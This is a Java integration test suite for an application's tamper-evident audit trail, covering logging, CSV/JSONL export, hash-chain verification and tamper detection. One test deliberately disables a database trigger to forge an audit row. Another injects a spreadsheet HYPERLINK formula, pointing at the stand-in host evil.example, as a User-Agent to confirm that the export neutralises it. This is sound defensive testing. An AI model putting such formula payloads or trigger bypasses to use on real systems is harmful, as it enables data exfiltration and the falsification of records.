package se.valedger.app.audit;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.time.Instant;
import java.util.ArrayList;
import java.util.EnumSet;
import java.util.List;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;
import se.valedger.app.users.Role;
import se.valedger.app.users.UserAccounts;
import se.valedger.testing.Api;
import se.valedger.testing.IntegrationTest;
import se.valedger.testing.PipeJson;

@IntegrationTest
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class AuditTrailTest {

    static PipeJson pipe(String id) {
        return PipeJson.pipe(id).material("DUCTILE_IRON").diameter(150).length(120.5).laid(1974).district("Odensala")
                .consequenceClass(3).line(492000.0, 6995000.0, 492100.0, 6995060.0);
    }
    static final ObjectMapper JSON = new ObjectMapper();

    @LocalServerPort
    int port;
    @Autowired
    JdbcTemplate jdbc;
    @Autowired
    UserAccounts accounts;
    @org.springframework.beans.factory.annotation.Value("${valedger.audit.chain-key-file}")
    java.nio.file.Path keyFile;

    Api admin;
    Api auditor;

    @BeforeEach
    void signIn() {
        admin = Api.at(port, "admin", "admin-password");
        if (jdbc.queryForObject("SELECT count(*) FROM security.app_user WHERE username = 'agnes'", Long.class) == 0) {
            accounts.create("agnes", "auditor-password", EnumSet.of(Role.AUDITOR));
            accounts.create("petra", "planner-password", EnumSet.of(Role.PLANNER));
        }
        auditor = Api.at(port, "agnes", "auditor-password");
    }

    JsonNode latest(String query) {
        var page = auditor.get("/api/audit?size=1&" + query);
        assertThat(page.status()).as(page.body()).isEqualTo(200);
        assertThat(page.json().get("total").asLong()).as(query).isPositive();
        return page.json().at("/items/0");
    }

    @Test
    @Order(1)
    void anAcceptedCommandIsRecordedWithWhoWhereWhatAndItsEvents() {
        var created = admin.post("/api/pipes", pipe("VA-A1").json());
        assertThat(created.status()).isEqualTo(201);

        JsonNode entry = latest("aggregate=VA-A1&outcome=ACCEPTED");
        assertThat(entry.get("channel").asText()).isEqualTo("COMMAND");
        assertThat(entry.get("type").asText()).isEqualTo("RegisterPipe");
        assertThat(entry.get("user").asText()).isEqualTo("admin");
        assertThat(entry.get("roles").asText()).isEqualTo("ADMIN");
        assertThat(entry.get("authMethod").asText()).isEqualTo("password");
        assertThat(entry.get("clientAddress").asText()).isEqualTo("127.0.0.1");
        assertThat(entry.get("userAgent").asText()).isNotBlank();
        assertThat(entry.get("correlationId").asText()).isNotBlank();
        assertThat(entry.get("payload").asText()).contains("\"pipeId\":\"VA-A1\"").contains("\"lengthM\":120.5");
        assertThat(entry.get("eventPositions").get(0).asLong()).isEqualTo(Long.parseLong(created.header("X-Event-Position")));
        String eventId = jdbc.queryForObject("SELECT event_identifier FROM event_store.domain_event WHERE aggregate_identifier = 'VA-A1'",
                String.class);
        assertThat(entry.get("eventIds").get(0).asText()).isEqualTo(eventId);
        assertThat(entry.get("hash").asText()).hasSize(64);
    }

    @Test
    @Order(2)
    void aCommandRejectedByARuleOrAsInvalidIsRecordedWithTheReason() {
        admin.post("/api/pipes", pipe("VA-A2").json());
        assertThat(admin.post("/api/pipes", pipe("VA-A2").json()).status()).isEqualTo(409);
        JsonNode conflict = latest("aggregate=VA-A2&outcome=CONFLICT");
        assertThat(conflict.get("type").asText()).isEqualTo("RegisterPipe");
        assertThat(conflict.get("eventIds")).isEmpty();

        var invalid = admin.post("/api/pipes", pipe("VA-A3").length(-3.0).json());
        assertThat(invalid.status()).isEqualTo(400);
        JsonNode rejected = latest("aggregate=VA-A3&outcome=REJECTED_INVALID");
        assertThat(rejected.get("channel").asText()).isEqualTo("COMMAND");
        assertThat(rejected.get("reason").asText()).startsWith("lengthM: ");
        assertThat(rejected.get("payload").asText()).contains("-3.0");

        var badJson = admin.post("/api/pipes", "{\"id\": \"VA-A4\", ");
        assertThat(badJson.status()).isEqualTo(400);
        JsonNode unreadable = latest("type=POST%20/api/pipes&outcome=REJECTED_INVALID");
        assertThat(unreadable.get("channel").asText()).isEqualTo("HTTP");
        assertThat(unreadable.get("user").asText()).isEqualTo("admin");
        assertThat(unreadable.get("payload").asText()).doesNotContain("VA-A4").contains("\"bytes\":16").contains("sha256");
        assertThat(unreadable.get("reason").asText()).contains("not valid JSON");
        assertThat(unreadable.get("httpStatus").asInt()).isEqualTo(400);
    }

    @Test
    @Order(3)
    void refusedAndUnauthenticatedAttemptsAreRecorded() {
        var forbidden = Api.at(port, "petra", "planner-password").post("/api/pipes", pipe("VA-A5").json());
        assertThat(forbidden.status()).isEqualTo(403);
        JsonNode refused = latest("user=petra&outcome=FORBIDDEN");
        assertThat(refused.get("roles").asText()).isEqualTo("PLANNER");
        assertThat(refused.get("type").asText()).isEqualTo("POST /api/pipes");
        assertThat(refused.get("payload").asText()).contains("VA-A5");

        assertThat(Api.at(port, "mallory", "guess").post("/api/pipes", pipe("VA-A6").json()).status()).isEqualTo(401);
        JsonNode wrong = latest("user=mallory&outcome=UNAUTHENTICATED");
        assertThat(wrong.get("reason").asText()).isEqualTo("wrong credentials or disabled account");
        assertThat(wrong.hasNonNull("roles")).isFalse();

        assertThat(Api.anonymous(port).get("/api/audit").status()).isEqualTo(401);
        JsonNode anonymous = latest("type=GET%20/api/audit&outcome=UNAUTHENTICATED");
        assertThat(anonymous.get("reason").asText()).isEqualTo("no credentials");
    }

    @Test
    @Order(4)
    void readingAndExportingTheTrailIsItselfRecorded() {
        auditor.get("/api/audit?user=petra");
        JsonNode read = latest("type=ReadAuditTrail&user=agnes");
        assertThat(read.get("outcome").asText()).isEqualTo("READ");
        assertThat(read.get("payload").asText()).contains("\"user\":\"petra\"");

        assertThat(auditor.get("/api/audit/export?format=csv").status()).isEqualTo(200);
        JsonNode export = latest("type=ExportAuditTrail");
        assertThat(export.get("user").asText()).isEqualTo("agnes");
        assertThat(export.get("payload").asText()).contains("\"format\":\"csv\"");
    }

    @Test
    @Order(5)
    void anExportRoundTripsAndItsHashesRecomputeOutsideTheSystem() throws Exception {
        Instant from = Instant.parse("2000-01-01T00:00:00Z");
        String key = java.nio.file.Files.readString(keyFile).trim();
        var jsonl = auditor.get("/api/audit/export?from=" + from + "&to=2100-01-01T00:00:00Z");
        assertThat(jsonl.status()).isEqualTo(200);
        List<JsonNode> lines = new ArrayList<>();
        for (String line : jsonl.body().split("\n")) {
            lines.add(JSON.readTree(line));
        }
        long stored = jdbc.queryForObject("SELECT count(*) FROM audit.entry", Long.class);
        // The export's own read entry was appended before streaming began.
        assertThat((long) lines.size()).isBetween(stored - 1, stored);
        String prev = AuditChain.GENESIS;
        for (JsonNode line : lines) {
            assertThat(line.get("prevHash").asText()).isEqualTo(prev);
            String text = prev + "\n" + canonicalOf(line);
            String expected = AuditChain.KEYED.equals(line.path("algorithm").asText()) ? AuditTamperingTest.hmac(key, text) : sha256(text);
            assertThat(expected).as("entry %s", line.get("seq")).isEqualTo(line.get("hash").asText());
            prev = line.get("hash").asText();
        }

        var csv = auditor.get("/api/audit/export?format=csv&from=" + from);
        List<List<String>> rows = Csv.parse(csv.body());
        assertThat(rows.get(0)).isEqualTo(AuditExport.CSV_HEADER);
        for (int i = 0; i < lines.size(); i++) {
            List<String> row = rows.get(i + 1);
            JsonNode line = lines.get(i);
            for (int c = 0; c < AuditExport.CSV_HEADER.size(); c++) {
                JsonNode value = line.get(AuditExport.CSV_HEADER.get(c));
                String expected = value.isNull() ? null : value.isArray()
                        ? String.join(" ", iterable(value)) : value.asText();
                String cell = row.get(c) != null && row.get(c).startsWith("'") ? row.get(c).substring(1) : row.get(c);
                assertThat(cell).as("row %d column %s", i, AuditExport.CSV_HEADER.get(c)).isEqualTo(expected);
            }
        }
    }

    @Test
    @Order(6)
    void theTrailIsVerifiedAfterAMixedWorkload() {
        var verified = auditor.get("/api/audit/verify");
        assertThat(verified.status()).isEqualTo(200);
        assertThat(verified.json().get("valid").asBoolean()).as(verified.body()).isTrue();
        long stored = jdbc.queryForObject("SELECT count(*) FROM audit.entry", Long.class);
        assertThat(verified.json().get("entriesChecked").asLong()).isEqualTo(stored - 1);
        assertThat(latest("type=VerifyAuditTrail").get("reason").asText()).startsWith("chain valid up to entry");
    }

    @Test
    @Order(7)
    void aCheckpointKeptOutsideCatchesAChainRewrittenFromTheStart() {
        var checkpoint = admin.post("/api/audit/checkpoints", "");
        assertThat(checkpoint.status()).as(checkpoint.body()).isEqualTo(201);
        long seq = checkpoint.json().get("seq").asLong();
        String hash = checkpoint.json().get("headHash").asText();
        assertThat(auditor.get("/api/audit/verify?expectSeq=" + seq + "&expectHash=" + hash).json().get("valid").asBoolean()).isTrue();
        var wrong = auditor.get("/api/audit/verify?expectSeq=" + seq + "&expectHash=" + "ab".repeat(32));
        assertThat(wrong.json().get("valid").asBoolean()).isFalse();
        assertThat(wrong.json().get("firstInvalidSeq").asLong()).isEqualTo(seq);
        List<String> kept = new ArrayList<>();
        auditor.get("/api/audit/checkpoints").json().forEach(c -> {
            if (c.get("seq").asLong() == seq) {
                kept.add(c.get("headHash").asText());
            }
        });
        assertThat(kept).containsExactly(hash);
    }

    @Test
    @Order(8)
    void theTrailRefusesChangesAndVerifyNamesTheFirstRowEditedBehindTheTriggersBack() {
        long target = jdbc.queryForObject("SELECT min(seq) FROM audit.entry WHERE user_name = 'petra'", Long.class);
        org.assertj.core.api.Assertions.assertThatThrownBy(() ->
                jdbc.update("UPDATE audit.entry SET user_name = 'admin' WHERE seq = ?", target))
                .hasMessageContaining("append-only");
        org.assertj.core.api.Assertions.assertThatThrownBy(() -> jdbc.update("DELETE FROM audit.entry WHERE seq = ?", target))
                .hasMessageContaining("append-only");

        jdbc.execute("ALTER TABLE audit.entry DISABLE TRIGGER entry_append_only");
        jdbc.update("UPDATE audit.entry SET user_name = 'admin', roles = 'ADMIN' WHERE seq = ?", target);
        jdbc.execute("ALTER TABLE audit.entry ENABLE TRIGGER entry_append_only");

        var verified = auditor.get("/api/audit/verify");
        assertThat(verified.json().get("valid").asBoolean()).isFalse();
        assertThat(verified.json().get("firstInvalidSeq").asLong()).isEqualTo(target);
        assertThat(verified.json().get("reason").asText()).contains("does not match its hash");
    }

    @Test
    @Order(9)
    void anUnauthenticatedUserAgentThatLooksLikeAFormulaIsNeutralisedInTheCsvExport() {
        String agent = "=HYPERLINK(\"http://evil.example/\"&A1,\"Klicka\")";
        assertThat(Api.anonymous(port).send("POST", "/api/pipes", "application/json", "{}".getBytes(), "User-Agent", agent)
                .status()).isEqualTo(401);
        var csv = auditor.get("/api/audit/export?format=csv");
        List<List<String>> rows = Csv.parse(csv.body());
        int column = AuditExport.CSV_HEADER.indexOf("userAgent");
        List<String> cells = rows.stream().skip(1).map(r -> r.get(column)).filter(c -> c != null && c.contains("HYPERLINK")).toList();
        assertThat(cells).isNotEmpty().allSatisfy(cell -> assertThat(cell).isEqualTo("'" + agent));
        assertThat(rows.stream().skip(1).flatMap(List::stream)
                .filter(c -> c != null && !c.isEmpty() && "=+-@\t\r".indexOf(c.charAt(0)) >= 0 && !c.matches("-?[0-9.]+"))).isEmpty();
    }

    private static Iterable<String> iterable(JsonNode array) {
        List<String> items = new ArrayList<>();
        array.forEach(v -> items.add(v.isNull() ? "" : v.asText()));
        return items;
    }

    /** The documented canonical form, rebuilt from an export line without our code: all fields but the hashes. */
    static String canonicalOf(JsonNode line) throws Exception {
        var copy = ((com.fasterxml.jackson.databind.node.ObjectNode) line).deepCopy();
        copy.remove("prevHash");
        copy.remove("hash");
        return JSON.writeValueAsString(copy);
    }

    static String sha256(String text) throws Exception {
        var digest = java.security.MessageDigest.getInstance("SHA-256").digest(text.getBytes(java.nio.charset.StandardCharsets.UTF_8));
        return java.util.HexFormat.of().formatHex(digest);
    }
}
